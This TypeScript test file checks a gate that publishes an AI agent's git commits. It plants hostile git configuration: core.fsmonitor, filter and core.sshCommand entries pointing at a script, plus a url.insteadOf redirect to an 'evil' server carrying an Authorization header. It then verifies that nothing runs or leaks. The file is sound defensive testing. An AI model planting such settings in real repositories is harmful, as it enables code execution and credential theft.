import { chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { AppError } from '../../words/errors.ts';
import {
  commit,
  serveEvil,
  shellGit,
  shellGitBeside,
  testToken,
  write,
} from '../local-remote.test-support.ts';
import { type Ground, markingScript, set } from './attack.test-support.ts';
import { foreignAttacks } from './attacks-foreign.test-support.ts';
import { configAttacks, gitDirectoryAttacks } from './attacks-git-directory.test-support.ts';
import { leftoverAttacks } from './attacks-leftovers.test-support.ts';
import { claudeCommits, type Scene, scene, target, whyNoFence } from './gate.test-support.ts';

const opened: Scene[] = [];
afterEach(async () => {
  for (const { fence } of opened.splice(0)) await fence?.close();
});

const privateData = 'SIBLING-PRIVATE-DATA';

/** Claude has committed `a.txt`, and changed `b.txt` without committing; then the attack is planted. */
async function ground(
  options: Parameters<typeof scene>[0] = {},
): Promise<{ made: Scene; at: Ground; seen: { authorization?: string }[] }> {
  const made = await scene(options);
  opened.push(made);
  const { project, directory, server } = made;
  const evil = await serveEvil();
  const sibling = join(project.root, 'sibling');
  let privateSha = '';
  // Most attacks do without it.
  const withSibling = () => {
    if (privateSha) return;
    shellGit(project.root, 'clone', '-q', `file://${project.bare}`, sibling);
    privateSha = commit(sibling, { 'private/b.txt': privateData });
  };
  const mark = join(project.root, 'mark');
  const script = join(project.root, 'script.sh');
  markingScript(script, mark);
  const sha = claudeCommits(directory, { 'a.txt': 'legitimate\n' });
  write(directory, 'b.txt', 'uncommitted\n');
  return {
    made,
    seen: evil.seen,
    at: {
      ...{ directory, script, mark, evil: evil.origin, url: server.remote.url, sha },
      get sibling() {
        withSibling();
        return sibling;
      },
      get privateSha() {
        withSibling();
        return privateSha;
      },
    },
  };
}

/** What holds whatever the attack was. */
function expectNoHarm({ made, at, seen }: Awaited<ReturnType<typeof ground>>): void {
  expect(existsSync(at.mark) ? readFileSync(at.mark, 'utf8') : 'nothing ran').toBe('nothing ran');
  expect(seen).toEqual([]);
  expect(allObjects(made.project.bare)).not.toContain(privateData);
  expect(
    filesBelow(made.project.root).filter((path) => readFileSync(path, 'latin1').includes(testToken)),
  ).toEqual([]);
  expect(shellGit(made.project.bare, 'rev-parse', 'main')).toBe(made.base);
}

function allObjects(bare: string): string {
  return shellGit(bare, 'cat-file', '--batch-all-objects', '--batch');
}

function filesBelow(directory: string): string[] {
  return readdirSync(directory, { recursive: true, encoding: 'utf8' })
    .map((name) => join(directory, name))
    .filter((path) => lstatSync(path).isFile());
}

const attacks = [...gitDirectoryAttacks, ...configAttacks, ...foreignAttacks, ...leftoverAttacks];

describe.each([
  ['without a fence', false],
  ['through a fence', true],
] as const)('%s', (_, fenced) => {
  describe.skipIf(fenced && whyNoFence)('the gate', () => {
    test.each(attacks)('$name: $ends, and nothing ran or leaked', async ({ plant, leaves, ...attack }) => {
      const ends = (fenced && attack.fenced) || attack.ends;
      const all = await ground({ fenced });
      const { made, at } = all;
      plant(at);
      const published = await made.publish().catch((error: unknown) => {
        if (error instanceof AppError) return error;
        throw error;
      });
      await made.gate.patch(join(made.project.root, 'work.patch'));
      expectNoHarm(all);
      const patch = join(made.project.root, 'work.patch');
      if (existsSync(patch)) expect(readFileSync(patch, 'utf8')).not.toContain(privateData);
      if (ends === 'refused') {
        expect(published).toMatchObject({ reason: 'gate_refused' });
        expect(made.onServer()).toBeNull();
        return;
      }
      expect(published).toMatchObject({ outcome: 'pushed' });
      const tip = made.onServer()!;
      expect(shellGit(made.project.bare, 'rev-parse', leaves ? `${tip}^{commit}` : `${tip}~1`)).toBe(at.sha);
      if (!leaves) expect(shellGit(made.project.bare, 'show', `${tip}:b.txt`)).toBe('uncommitted');
      expect(shellGit(made.project.bare, 'show', `${tip}:a.txt`)).toBe('legitimate');
      expect(shellGit(made.project.bare, 'ls-tree', '-r', tip)).not.toMatch(/160000/);
    });

    test('a submodule that was there before, with a hostile configuration now, stays as it is', async () => {
      const all = await ground({
        fenced,
        before: (project) => {
          const other = join(project.root, 'other');
          mkdirSync(other);
          shellGit(other, 'init', '-q');
          commit(other, { 'inner.txt': 'inner\n', '.gitattributes': '* filter=x\n' });
          shellGit(project.source, 'submodule', '--quiet', 'add', `file://${other}`, 'sub');
          commit(project.source, {}, 'Submodule');
          shellGit(project.source, 'push', '-q', 'origin', 'main');
        },
        beforeRun: (checkout) => shellGit(checkout, 'submodule', '--quiet', 'update', '--init'),
      });
      const { made, at } = all;
      // Its HEAD has moved, so that git would look into it, and would take it for deleted if it were not skipped.
      claudeCommits(join(at.directory, 'sub'), { 'more.txt': 'more\n' });
      const config = join(at.directory, '.git/modules/sub/config');
      for (const key of ['core.fsmonitor', 'filter.x.clean', 'filter.x.process', 'core.sshCommand']) {
        shellGit('/', 'config', '--file', config, key, at.script);
      }
      write(at.directory, 'sub/inner.txt', 'dirty\n');
      set(at.directory, 'push.recurseSubmodules', 'on-demand');
      expect(await made.publish()).toMatchObject({ outcome: 'pushed', commits: 2 });
      expectNoHarm(all);
      const tip = made.onServer()!;
      expect(shellGit(made.project.bare, 'rev-parse', `${tip}:sub`)).toBe(
        shellGit(made.project.bare, 'rev-parse', `${made.base}:sub`),
      );
    });
  });
});

test('the marks work: the same plants run and leak when git is used in the workspace', async () => {
  const { at, seen } = await ground();
  set(at.directory, 'core.fsmonitor', at.script);
  shellGit(at.directory, 'status');
  expect(readFileSync(at.mark, 'utf8')).toContain('script.sh');
  set(
    at.directory,
    `url.${at.evil}/.insteadOf`,
    new URL(at.url).origin,
    'http.extraHeader',
    'Authorization: Basic x',
  );
  expect(
    await shellGitBeside(at.directory, 'push', at.url, `${at.sha}:refs/heads/${target.branch}`),
  ).not.toBe(0);
  expect(seen.length).toBeGreaterThan(0);
});

test.skipIf(process.getuid?.() !== 0)('a workspace of another user is published as well', async () => {
  const { made, at } = await ground();
  for (const path of [
    at.directory,
    ...readdirSync(at.directory, { recursive: true, encoding: 'utf8' }).map((name) =>
      join(at.directory, name),
    ),
  ]) {
    chownSync(path, 65534, 65534);
  }
  expect(await made.publish()).toMatchObject({ outcome: 'pushed', commits: 2 });
});
